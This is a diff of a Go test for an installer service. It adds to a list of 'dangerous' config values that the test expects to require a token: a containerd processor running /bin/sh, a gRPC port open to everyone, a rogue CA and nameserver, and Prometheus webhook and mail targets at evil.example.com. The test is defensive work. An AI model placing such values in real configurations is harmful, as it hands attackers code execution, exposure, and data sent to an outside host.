@@ -110,11 +110,15 @@ var dangerous = map[string]string{
 	"firewalldConfig.firewalldCmds: a command":           "  firewalldConfig: {firewalldCmds: [[--panic-on]]}\n",
 	"containerd.tomlConfig: a program of the attacker's": "  containerd: {version: '1.0', tomlConfig: \"[stream_processors.x]\\npath = '/bin/sh'\"}\n",
 	"containerd.tomlConfig: a port for everybody":        "  containerd: {version: '1.0', tomlConfig: \"[grpc]\\ntcp_address = '0.0.0.0:7777'\"}\n",
+	"kurl.caCertificates: an authority":                  "  kurl: {caCertificates: x}\n",
+	"kurl.nameserver: a name server":                     "  kurl: {nameserver: 192.0.2.1}\n",
+	"prometheus.receivers: a webhook":                    "  prometheus: {version: '1.0', receivers: ['https://evil.example.com/']}\n",
+	"prometheus.smtpServer: a mail server":               "  prometheus: {version: '1.0', smtpServer: 'evil.example.com:25'}\n",
 }
 
 func TestInstallerWithCommandsNeedsToken(t *testing.T) {
 	packages := filled(t)
-	for name, version := range map[string]string{"containerd": "1.0", "kubernetes": "1.36.3"} {
+	for name, version := range map[string]string{"containerd": "1.0", "kubernetes": "1.36.3", "prometheus": "1.0"} {
 		put(t, packages, name+"-"+version+".tar.gz", pack(t, name, version, map[string]string{"Manifest": "", "install.sh": ""}))
 	}
 	front := serve(t, packages, nil)
@@ -145,8 +149,8 @@ func TestInstallerWithCommandsNeedsToken(t *testing.T) {
 			t.Errorf("%s, with the token: %s %s", name, a.Status, a.body)
 		}
 	}
-	if a := ask(t, "POST", front.URL+"/installer", installer(both+"  kurl: {hostPreflights: {spec: {collectors: [{cpu: {}}, {diskUsage: {path: /var}}], analyzers: []}}}\n")); a.StatusCode != http.StatusCreated {
-		t.Errorf("checks that only look: %s %s", a.Status, a.body)
+	if a := ask(t, "POST", front.URL+"/installer", installer(both+"  kurl: {proxyAddress: 'http://proxy.example.com:3128', hostPreflights: {spec: {collectors: [{cpu: {}}, {diskUsage: {path: /var}}], analyzers: []}}}\n")); a.StatusCode != http.StatusCreated {
+		t.Errorf("checks that only look, and a proxy: %s %s", a.Status, a.body)
 	}
 }
 
